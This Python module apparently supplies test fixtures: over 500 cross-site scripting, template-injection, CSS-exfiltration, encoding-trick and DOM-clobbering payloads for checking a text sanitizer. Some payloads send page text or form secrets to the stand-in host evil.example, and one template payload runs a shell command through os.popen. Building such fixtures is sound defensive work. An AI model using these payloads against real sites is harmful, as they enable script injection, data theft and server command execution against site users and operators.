"""Texts that try to become markup, script, style, a request or a template: by families, the same at every run.

Most call ``xss()`` and name the host ``evil.example``: a test defines the one, and looks for the other in requests.
"""

from collections.abc import Iterator
from itertools import product
from typing import Final

from conversations.text import clean

CALLS: Final = (
    "xss()",
    "alert(1)",
    "top.xss()",
    "(0,xss)()",
    "xss`1`",
    "self['xs'+'s']()",
    "eval('xss()')",
    "setTimeout('xss()')",
    "Function('xss()')()",
    "eval(atob('eHNzKCk='))",
    "location='javascript:xss()'",
    "onerror=xss;throw 1",
    "\\u0078ss()",
    "fetch('//evil.example/'+document.body.innerText)",
    "import('data:text/javascript,top.xss()')",
)


def _scripts() -> Iterator[str]:
    shapes = (
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT >",
        "<script/x>{}</script\t>",
        "<script\n>{}//",
        "<<script>{}<</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<script type=module>{}</script>",
        "<svg><script>{}</script></svg>",
    )
    yield from (shape.format(call) for shape, call in product(shapes, CALLS))
    yield from (
        "<script src=//evil.example/x.js></script>",
        "<script src='data:text/javascript,xss()'></script>",
        "<script>/*<!--*/xss()/*-->*/</script>",
        "<script language=vbs>xss</script>",
        "<script nonce=''>xss()</script>",
        "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
        "<!--><script>xss()</script-->",
        "<![CDATA[<script>xss()</script>]]>",
        "<?xml-stylesheet href='javascript:xss()'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM '//evil.example/'>]>&y;",
    )


def _escapes() -> Iterator[str]:
    """Ways out of an attribute, or of an element whose content is text, followed by what would then run."""
    ways = (
        '"', "'", "`", '">', "'>", "`>", ">", "/>", "-->", "--!>", "]]>", "?>", "%>", "*/", "\\\">", "\\'>",
        "</textarea>", "</title>", "</style>", "</script>", "</bdi>", "</p></li></ul>", "</svg>", "</option></select>",
        "</noscript>", "</template>", "</iframe>", "</xmp>",
    )  # fmt: skip
    yield from (f"{way}<img src=x onerror=xss()>" for way in ways)
    yield from (f"{way} autofocus onfocus=xss() x={way}" for way in ways[:8])
    yield from (f"{way}<svg onload=alert(1)>" for way in ways)
    yield from (f"{way};xss();{way}" for way in ways[:3])
    yield from (f"{way}style=background:url(//evil.example/) {way}" for way in ways[:6])


def _events() -> Iterator[str]:
    tags = (
        "img src=x onerror", "img src onerror", "image src=x onerror", "svg onload", "body onload", "body onpageshow",
        "input autofocus onfocus", "textarea autofocus onfocus", "select autofocus onfocus", "button autofocus onfocus",
        "a href=# autofocus onfocus", "details open ontoggle", "video src=x onerror", "audio src=x onerror",
        "video><source onerror", "object data=x onerror", "embed src=x onload", "iframe onload", "style onload",
        "link rel=stylesheet href=data:text/css, onload", "marquee onstart", "meter onmouseover", "div onpointerenter",
        "p tabindex=1 onfocusin", "form onformdata", "dialog open onclose", "math onclick",
        "frameset onload", "track onerror", "body onhashchange", "body onbeforeprint",
    )  # fmt: skip
    yield from (f"<{tag}=xss()>" for tag in tags)
    yield from (f"<{tag.replace(' ', '/')}='alert(1)'//" for tag in tags)
    yield from (f'<{tag.upper()}\n=\n"xss()" x>' for tag in tags)


def _drawings() -> Iterator[str]:
    yield from (
        "<svg><animate onbegin=xss() attributeName=x dur=1s>",
        "<svg><set onbegin=xss() attributeName=x>",
        "<svg><a xlink:href=javascript:xss()><text y=20>tap</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=xss() />#x'>",
        "<svg><image href=//evil.example/x.png></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>top.xss()</script>'></foreignObject></svg>",
        "<svg><style><img src=x onerror=xss()></style></svg>",
        "<svg><title><img src=x onerror=xss()></title></svg>",
        "<svg><desc><script>xss()</script></desc></svg>",
        "<svg></p><style><a id='</style><img src=1 onerror=xss()>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss()&gt;'>",
        "<math href=javascript:xss()>tap</math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=xss()></annotation-xml></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:xss()>tap</maction></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
        "<table><td background=javascript:xss()>",
        "<table><tr><td><svg/onload=xss()>",
    )


def _addresses() -> Iterator[str]:
    schemes = (
        "javascript:xss()",
        "JaVaScRiPt:xss()",
        " javascript:xss()",
        "java\tscript:xss()",
        "java\nscript:xss()",
        "javascript&colon;xss()",
        "javascript&#58;xss()",
        "&#106;avascript:xss()",
        "javascript://%0axss()",
        "javascript:'<script>xss()</script>'",
        "data:text/html,<script>top.xss()</script>",
        "data:text/html;base64,PHNjcmlwdD50b3AueHNzKCk8L3NjcmlwdD4=",
        "vbscript:xss()",
        "//evil.example/?",
        "https://evil.example/s#",
        "tg://resolve?domain=evil",
        "mailto:evil@evil.example?body=",
    )
    holders = (
        "{}",
        "<a href='{}'>tap</a>",
        '<iframe src="{}"></iframe>',
        "<form action='{}'><button>tap</button></form>",
        "<object data='{}'></object>",
        "[tap]({})",
        "<meta http-equiv=refresh content='0;url={}'>",
    )
    yield from (holder.format(scheme) for holder, scheme in product(holders, schemes))
    yield from (
        "<base href=//evil.example/>",
        "<base target=_blank>",
        "<link rel=prefetch href=//evil.example/>",
        "<link rel=preconnect href=//evil.example>",
        "<img src=//evil.example/x.png>",
        "<img srcset='//evil.example/x 1x'>",
        "<video poster=//evil.example/x></video>",
        "<input type=image src=//evil.example/x>",
        "<bgsound src=//evil.example/x>",
        "<a ping=//evil.example/ href=#>tap</a>",
        "<iframe srcdoc='<script>top.xss()</script>'></iframe>",
        "<portal src=//evil.example>",
        "www.evil.example and evil@evil.example",
    )


def _templates() -> Iterator[str]:
    inside = (
        "7*7",
        "page.nonce",
        "config",
        "self.__init__.__globals__",
        "cycler.__init__.__globals__.os.popen('id').read()",
        "''.__class__.__mro__[1].__subclasses__()",
        "constructor.constructor('xss()')()",
        "$on.constructor('xss()')()",
        "'<script>xss()</script>'|safe",
    )
    around = ("{{{{{}}}}}", "{{% print({}) %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "[[{}]]", "{{{{{{{}}}}}}}", "@({})")
    yield from (pair.format(one) for pair, one in product(around, inside))
    yield from (
        "{% raw %}{{ x }}",
        "{# gone #}",
        "{% include 'web/style.css' %}",
        "{{",
        "}}",
        "{%",
        "%}",
        "%(name)s %s",
    )


def _encodings() -> Iterator[str]:
    bare = "<script>xss()</script>"
    yield "".join(f"&#{ord(sign)};" for sign in bare)
    yield "".join(f"&#x{ord(sign):x};" for sign in bare)
    yield "".join(f"&#{ord(sign):07}" for sign in bare)
    yield "".join(f"%{ord(sign):02X}" for sign in bare)
    yield "".join(f"%25{ord(sign):02X}" for sign in bare)
    yield "".join(f"\\x{ord(sign):02x}" for sign in bare)
    yield "".join(f"\\u{ord(sign):04x}" for sign in bare)
    yield "".join(chr(ord(sign) + 0xFEE0) for sign in bare)  # full width
    yield bare.replace("<", "&lt;").replace(">", "&gt;")
    yield bare.replace("<", "&amp;lt;")
    yield bare.replace("<", "&LT").replace(">", "&GT")
    yield bare.replace("<", "+ADw-").replace(">", "+AD4-")
    yield bare.replace("<", "‹").replace(">", "›")
    yield bare.replace("<", "<\u0338")
    yield bare.replace("s", "ſ")  # its capital is S
    yield bare.replace("script", "scr\u0131pt")
    yield bare.replace("script", "scr\u200bipt")
    yield bare.replace("script", "scr\u00adipt")
    yield "\u00bcscript\u00bexss()\u00bc/script\u00be"
    yield "<img src=x onerror=&#120;&#115;&#115;&#40;&#41;>"
    yield "<img src=x onerror=\\u0078\\u0073\\u0073()>"
    yield "\ufffe<svg onload=xss()>\uffff"
    yield "\u2028<script>xss()</script>\u2029"
    yield "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307<script>xss()</script>"
    yield "🧑🏽‍⚕️<script>xss()</script>"


def _directions() -> Iterator[str]:
    """Signs that turn or hide what follows: cleaning drops the overrides, the rest must stay with its writer."""
    for sign in ("\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c", "\u200d", "\u2060"):
        yield f"{sign}<script>xss() // {ord(sign):x}</script>"
        yield f"Dr. {sign}gnorw{sign} {ord(sign):x}"
    yield "مرحبا <script>xss()</script> שלום"
    yield "\u202e>tpircs/<)(ssx>tpircs<"


def _entities() -> Iterator[str]:
    yield from (
        "&lt", "&lt;b&gt", "&#", "&#;", "&#x", "&#x;", "&#0;", "&#x0;", "&#13;", "&#128;", "&#x110000;", "&#xD800;",
        "&#99999999999;", "&amp", "&amp;amp;", "&ampamp;", "&quot", "&apos;", "&nbsp;", "&nosuch;", "&notit;",
        "&NotEqualTilde;", "& <", "<", "<3", "< script>", "</", "</>", "<!", "<!-", "<!--", "<?", "<a", "<a b=",
        "a<b>c", "<b>b</b>", "<plaintext>", "<xmp>", "<listing>", "<!-- --!> -->", "\\", "\\'", '"\'`', "';--",
        "__proto__", "null", "NaN", "<br/>", "%", "%00", "%s%n", "$&", "\\0", "#rules", "/*", "*/", "' or 1=1 --",
    )  # fmt: skip


def _styles() -> Iterator[str]:
    yield from (
        "<style>*{display:none!important}</style>",
        "<style>@import '//evil.example/x.css';</style>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
        "<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>",
        "<p style='position:fixed;inset:0;background:red'>over</p>",
        "<p style=animation:x onanimationstart=xss()>",
        "<div style='width:expression(xss())'>",
        "<div style='background:url(javascript:xss())'>",
        "<div style='-moz-binding:url(//evil.example/x#y)'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "</style><style>body{display:none}",
        "}body{display:none}/*",
        "expression(xss())",
        "@import url(//evil.example/y.css)",
        ":root{--card:red}",
    )


def _clobbers() -> Iterator[str]:
    """Elements whose names hide a function or a form that our own script uses."""
    yield from (
        "<form id=open action=//evil.example/><input name=secret>",
        "<a id=keep href=//evil.example/#" + "a" * 43 + ">",
        "<img name=getElementById>",
        "<img name=querySelectorAll>",
        "<form name=location>",
        "<form id=history>",
        "<input name=nonce value=x form=open>",
        "<input type=hidden name=section value=rules>",
        "<button formaction=//evil.example/ form=open>tap</button>",
        "<textarea name=text form=open>",
        "<form method=dialog>",
        "<dialog open>over everything</dialog>",
        "<template shadowrootmode=open><script>xss()</script></template>",
        "<main id=main></main>",
        "<nav id=wait></nav>",
    )


def payloads() -> tuple[str, ...]:
    """More than 500 distinct texts, as the door lets them in (`conversations.text.clean`)."""
    families = (
        _scripts, _escapes, _events, _drawings, _addresses, _templates, _encodings, _directions, _entities, _styles,
        _clobbers,
    )  # fmt: skip
    return tuple(dict.fromkeys(text for family in families for one in family() if (text := clean(one))))
